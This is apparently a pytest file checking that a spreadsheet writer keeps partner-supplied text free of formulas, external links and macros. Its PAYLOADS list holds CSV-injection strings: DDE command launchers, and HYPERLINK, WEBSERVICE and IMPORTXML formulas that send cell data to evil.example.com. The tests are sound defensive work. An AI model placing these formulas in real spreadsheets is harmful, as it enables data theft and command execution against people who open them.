"""Nothing a partner sends becomes a formula, a link or a macro in what is sent back (OWASP, CSV injection)."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from include.stage3_reading.cells.csv_grid import csv_grid
from include.stage3_reading.cells.sheet_cells import SheetCells
from include.stage3_reading.container.limits import Limits
from include.stage7_outputs.findings.changes import changes
from include.stage7_outputs.findings.facts import Facts
from include.stage7_outputs.findings.groups import group
from include.stage7_outputs.workbook.workbook import write_workbook
from tests.feedback.made_up import delivery, finding

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example.com?leak="&A1,"Click")',
    '=WEBSERVICE("http://evil.example.com/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example.com?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "%0A=1+1",
    "|calc",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '";=1+1;"',
    '=1+1";=1+2',
    "http://evil.example.com/",
    "https://evil.example.com/",
    "mailto:evil@example.com",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "external:c:\\evil.xlsx",
    "{=SUM(1)}",
    "<script>alert(1)</script>",
    "]]><f>1+1</f>",
    "<r><t>1</t></r></si><si><r><t>2</t></r>",
    '<r><t>1</t></r></is></c><c r="Z99"><f>1+1</f></c><c><is><r><t>2</t></r>',
    "_x003D_1+1",
    "\x00\x07=1+1",
    "\ufeff=1+1",
    "{0.__class__}",
)


@pytest.fixture(scope="module", params=["small", "large"])
def workbook(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workbook in which payloads stand everywhere a partner's text may, made in memory or row by row."""
    with pytest.MonkeyPatch.context() as patch:
        if request.param == "large":
            patch.setattr("include.stage7_outputs.workbook.workbook._LARGE", 1)
        return _write(tmp_path_factory.mktemp("inert") / "feedback.xlsx")


def _write(path: Path) -> Path:
    quoted = ['"' + payload.replace('"', '""') + '"' for payload in PAYLOADS]
    grid = csv_grid("\n".join(f"{text};{text}" for text in ["a", *quoted]), ";", Limits())
    findings = [
        finding("C05", "jobs", row, column="sex", value=payload, enterprise_ref=payload, waiver_reason=payload,
                waived=row % 2 == 0)
        for row, payload in enumerate(PAYLOADS, start=2)
    ]  # fmt: skip
    findings += [finding("F09", "file", None, column=None, value=payload) for payload in PAYLOADS]
    made = delivery(*findings, file_name='=HYPERLINK("http://evil.example.com")', project_code="=1+1")
    for number in (0, 1, 5, 6):
        made.sheets["jobs" if number == 0 else "sales"].column_letters.clear()
    sheets = [
        SheetCells.of("=cmd|'!A1", "jobs", grid),
        SheetCells.of("History", None, grid),
        SheetCells.of("Resumen", None, grid),
        SheetCells.of("'" * 40, None, grid),
    ]
    write_workbook(path, made, Facts(made), group(made), changes(made), sheets)
    return path


def test_no_cell_is_a_formula(workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "inlineStr"}
    with zipfile.ZipFile(workbook) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(rb"<f[ >/]", archive.read(name)), name


def test_links_lead_to_places_in_the_workbook_only(workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    links = [cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    assert links
    for link in links:
        assert link.target is None
        sheet, _, cell = link.location.rpartition("!")
        assert sheet.strip("'") in book.sheetnames
        assert re.fullmatch(r"[A-Z]+[0-9]+", cell)
    with zipfile.ZipFile(workbook) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in archive.read(name), name


def test_there_is_nothing_that_runs(workbook: Path) -> None:
    with zipfile.ZipFile(workbook) as archive:
        for name in archive.namelist():
            assert not re.search(
                r"vba|macro|externalLink|activeX|embeddings|connections|queryTable", name, re.IGNORECASE
            )


def test_every_part_is_one_that_the_writer_makes(workbook: Path) -> None:
    """Nothing of a partner's package is carried over: no part, relation, defined name or validation of its own."""
    with zipfile.ZipFile(workbook) as archive:
        parts = {re.sub(r"\d+", "1", name) for name in archive.namelist()}
        assert parts <= {
            "[Content_Types].xml", "_rels/.rels", "docProps/app.xml", "docProps/core.xml", "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels", "xl/sharedStrings.xml", "xl/styles.xml", "xl/theme/theme1.xml",
            "xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels", "xl/comments1.xml",
            "xl/drawings/vmlDrawing1.vml",
        }  # fmt: skip
        names = re.findall(rb'<definedName name="([^"]*)"', archive.read("xl/workbook.xml"))
        assert set(names) <= {b"_xlnm._FilterDatabase", b"_xlnm.Print_Titles"}
        for name in archive.namelist():
            assert not re.search(rb"<(dataValidation|ddeLink|oleObject|conditionalFormatting)", archive.read(name)), (
                name
            )


def test_what_looks_like_a_formula_stays_text_when_it_is_edited(workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    risky = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.lstrip("\ufeff \t\r\n\x00\x07")[:1] in tuple("=+-@|%＝＋－＠")
    ]
    assert len(risky) > len(PAYLOADS)
    for cell in risky:
        assert cell.quotePrefix, cell.coordinate
        assert cell.number_format == "@"


def test_values_are_as_they_were_sent(workbook: Path) -> None:
    sheet = openpyxl.load_workbook(workbook).worksheets[2]
    received = [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    # whether openpyxl undoes the escapes of control characters depends on where a string is kept
    escape = re.compile(r"_x([0-9A-F]{4})_")
    shown = {*received, *(escape.sub(lambda found: chr(int(found[1], 16)), text) for text in received)}
    assert {_visible(payload) for payload in PAYLOADS} <= {_visible(text) for text in shown}


def _visible(text: str) -> str:
    return re.sub(r"[\s\x00\x07]", "", text)


def test_sheets_of_awkward_names_are_all_there(workbook: Path) -> None:
    names = openpyxl.load_workbook(workbook).sheetnames
    assert names == ["Resumen", "Observaciones", "=cmd|_!A1", "History_", "Resumen (2)", "_" * 31]
